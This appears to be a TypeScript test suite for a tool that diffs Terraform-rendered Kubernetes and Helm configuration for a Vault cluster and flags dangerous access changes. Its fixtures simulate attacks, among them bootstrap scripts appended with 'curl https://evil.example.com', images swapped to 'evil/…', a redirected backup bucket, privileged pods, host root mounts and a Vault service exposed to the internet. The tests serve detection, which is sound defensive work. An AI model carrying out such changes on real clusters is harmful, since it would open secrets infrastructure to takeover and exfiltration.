import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { isDangerous } from "../../access/changes";
import { accessDiff } from "../../access/diff";
import { plain } from "../../access/markdown";
import { type Environment, readSynthesized } from "../../analysis/terraform/synthesized";
import { asText } from "./support/golden-platform";
import { inFolder } from "./support/platform";

/* eslint-disable @typescript-eslint/no-explicit-any */
type Resources = Record<string, Record<string, any>>;

const GOLDEN = join(__dirname, "../golden/production/cluster.tf.json");
const golden = (): { resource: Resources } => JSON.parse(readFileSync(GOLDEN, "utf8"), asText);

/** Cluster layer of production after a change. */
function cluster(change: (resources: Resources) => void = () => undefined): Environment {
  const json = golden();
  change(json.resource);
  return inFolder((folder) => {
    mkdirSync(join(folder, "stacks/production-cluster"), { recursive: true });
    writeFileSync(join(folder, "stacks/production-cluster/cdk.tf.json"), JSON.stringify(json));
    const [environment] = readSynthesized(folder);
    for (const { attributes } of environment.resources) void attributes;
    return environment;
  });
}

const base = cluster();

function changes(change: (resources: Resources) => void) {
  const [diff] = accessDiff([base], [cluster(change)]);
  return diff.changes;
}

const only = <T>(byName: Record<string, T>, part: string): T =>
  Object.entries(byName).find(([name]) => name.startsWith(part))![1];
const jobPod = (resources: Resources) => only(resources.kubernetes_job_v1, "Bootstrap").spec.template.spec;
const cronPod = (resources: Resources, name: string) =>
  only(resources.kubernetes_cron_job_v1, name).spec.job_template.spec.template.spec;
const values = (release: any, change: (values: any) => void) => {
  const parsed = JSON.parse(release.values[0]);
  change(parsed);
  release.values = [JSON.stringify(parsed)];
};
const deployment = (namespace: string, spec: object) => ({
  metadata: [{ name: "extra", namespace }],
  spec: [{ template: [{ spec: [{ container: [{ name: "app", image: "example.com/app:1" }], ...spec }] }] }],
});

describe("access diff of pods and charts", () => {
  test.each<[string, (resources: Resources) => void, string]>([
    [
      "another command of the bootstrap",
      (resources) => {
        const [container] = [jobPod(resources).container ?? jobPod(resources).init_container].flat();
        container.command = ["sh", "-c", "curl evil"];
      },
      "another command",
    ],
    [
      "another script of the bootstrap",
      (resources) => {
        const map = only(resources.kubernetes_config_map_v1, "Bootstrap");
        const [file] = Object.keys(map.data);
        map.data[file] += "\ncurl https://evil.example.com";
      },
      "another content of the file",
    ],
    [
      "another script of the servers",
      (resources) => {
        const map = only(resources.kubernetes_config_map_v1, "Vault_Scripts");
        const [file] = Object.keys(map.data);
        map.data[file] += "\ncurl https://evil.example.com";
      },
      "another content of the file",
    ],
    [
      "another image of the drill",
      (resources) => {
        for (const container of [cronPod(resources, "Drill").container].flat())
          container.image = "evil/tools:1";
      },
      "-> evil/tools:1",
    ],
    [
      "another bucket of the backup",
      (resources) => {
        for (const container of [cronPod(resources, "Backup").container].flat()) {
          for (const variable of container.env ?? []) if (variable.name === "BUCKET") variable.value = "evil";
        }
      },
      "another BUCKET",
    ],
    [
      "a Deployment that runs as Terraform",
      (resources) => {
        resources.kubernetes_deployment_v1 = {
          extra: deployment("vault", { service_account_name: "vault-terraform" }),
        };
      },
      "+ runs as ServiceAccount vault-terraform",
    ],
    [
      "a Job in a manifest that runs as the drill",
      (resources) => {
        resources.kubernetes_manifest = {
          extra: {
            manifest: {
              apiVersion: "batch/v1",
              kind: "Job",
              metadata: { name: "extra", namespace: "vault" },
              spec: { template: { spec: { serviceAccountName: "vault-drill", containers: [] } } },
            },
          },
        };
      },
      "+ runs as ServiceAccount vault-drill",
    ],
    [
      "a manifest that replaces the backup",
      (resources) => {
        resources.kubernetes_manifest = {
          extra: {
            manifest: {
              apiVersion: "batch/v1",
              kind: "CronJob",
              metadata: { name: "vault-backup", namespace: "vault" },
              spec: {
                jobTemplate: { spec: { template: { spec: { containers: [{ image: "evil/backup:1" }] } } } },
              },
            },
          },
        };
      },
      "runs evil/backup:1",
    ],
    [
      "a second ConfigMap with a script of the backup",
      (resources) => {
        const map = only(resources.kubernetes_config_map_v1, "Backup");
        const [file] = Object.keys(map.data);
        resources.kubernetes_config_map = { extra: { ...map, data: { [file]: "curl evil" } } };
      },
      "another content of the file",
    ],
    [
      "a privileged pod",
      (resources) => {
        resources.kubernetes_pod_v1 = {
          extra: {
            metadata: { name: "extra", namespace: "production" },
            spec: { container: { name: "app", image: "a", security_context: { privileged: true } } },
          },
        };
      },
      "+ privileged of the node",
    ],
    [
      "a path of the node",
      (resources) => {
        resources.kubernetes_daemon_set_v1 = {
          extra: deployment("production", { volume: [{ name: "v", host_path: { path: "/" } }] }),
        };
      },
      "+ hostPath / of the node",
    ],
    [
      "a container in the chart of Vault",
      (resources) =>
        values(only(resources.helm_release, "Vault_2"), ({ server }) => {
          server.extraContainers = [...(server.extraContainers ?? []), { name: "evil", image: "evil" }];
        }),
      "other values: server.extraContainers",
    ],
    [
      "another repository of the chart of Vault",
      (resources) => {
        only(resources.helm_release, "Vault_2").repository = "https://charts.example.com";
      },
      "chart vault of https://helm.releases.hashicorp.com -> vault of https://charts.example.com",
    ],
    [
      "another seal",
      (resources) =>
        values(only(resources.helm_release, "Vault_2"), ({ server }) => {
          server.ha.raft.config = server.ha.raft.config.replace("awskms", "transit");
        }),
      "other values: server.ha.raft.config",
    ],
    [
      "a program after rendering",
      (resources) => {
        only(resources.helm_release, "CertManager").postrender = { binary_path: "./evil" };
      },
      "another postrender",
    ],
    [
      "a chart from elsewhere",
      (resources) => {
        resources.helm_release.extra = { name: "x", chart: "x", repository: "https://charts.example.com" };
      },
      "+ the chart x of https://charts.example.com",
    ],
    [
      "weaker Pod Security",
      (resources) => {
        only(resources.kubernetes_namespace_v1, "Namespace_").metadata.labels[
          "pod-security.kubernetes.io/enforce"
        ] = "privileged";
      },
      "Pod Security restricted -> privileged",
    ],
    [
      "no Pod Security",
      (resources) => {
        delete only(resources.kubernetes_namespace_v1, "Namespace_").metadata.labels[
          "pod-security.kubernetes.io/enforce"
        ];
      },
      "Pod Security restricted -> not set",
    ],
    [
      "a mutating webhook",
      (resources) => {
        resources.kubernetes_mutating_webhook_configuration_v1 = { extra: { metadata: { name: "x" } } };
      },
      "+ it: changes other objects before they are stored",
    ],
    [
      "a token in a Secret",
      (resources) => {
        resources.kubernetes_secret_v1 = {
          extra: {
            metadata: { name: "token", namespace: "vault" },
            type: "kubernetes.io/service-account-token",
          },
        };
      },
      "+ a token of a ServiceAccount without an end",
    ],
    [
      "a manifest that only Terraform knows",
      (resources) => {
        resources.kubernetes_manifest = { extra: { manifest: "${yamldecode(data.http.x.response_body)}" } };
      },
      "+ an object that only Terraform knows",
    ],
    [
      "a port of Vault for the world",
      (resources) => {
        resources.kubernetes_service_v1 = {
          extra: { metadata: { name: "x", namespace: "vault" }, spec: { type: "LoadBalancer" } },
        };
      },
      "+ reachable from outside the cluster: a Service of type LoadBalancer",
    ],
  ])("calls %s dangerous", (_what, change, expected) => {
    const found = changes(change);

    expect(
      found
        .filter(isDangerous)
        .map(({ what }) => plain(what))
        .join("\n"),
    ).toContain(expected);
  });

  test.each<[string, (resources: Resources) => void, string[]]>([
    [
      "another tag of an image",
      (resources) => {
        for (const container of [cronPod(resources, "Backup").container].flat()) {
          if (container.image) container.image = container.image.replace(/(:[^:@]*)?(@.*)?$/, ":next");
        }
      },
      ["image"],
    ],
    [
      "another version of a chart",
      (resources) => {
        only(resources.helm_release, "CertManager").version = "v1.99.0";
      },
      ["version v1.21.1 -> v1.99.0"],
    ],
    [
      "replicas",
      (resources) =>
        values(only(resources.helm_release, "CertManager"), (parsed) => {
          parsed.replicaCount = 7;
        }),
      ["other values: replicaCount"],
    ],
    [
      "an ordinary service",
      (resources) => {
        resources.kubernetes_deployment_v1 = {
          extra: deployment("production", { service_account_name: "invoice" }),
        };
      },
      ["+ a workload: runs example.com/app:1", "+ runs as ServiceAccount invoice"],
    ],
  ])("names %s, which is not dangerous", (_what, change, expected) => {
    const found = changes(change);

    expect(found.filter(isDangerous)).toEqual([]);
    for (const text of expected) expect(found.map(({ what }) => plain(what)).join("\n")).toContain(text);
  });

  test("reports no change if nothing changes but the order of containers' fields", () => {
    expect(changes(() => undefined)).toEqual([]);
  });
});
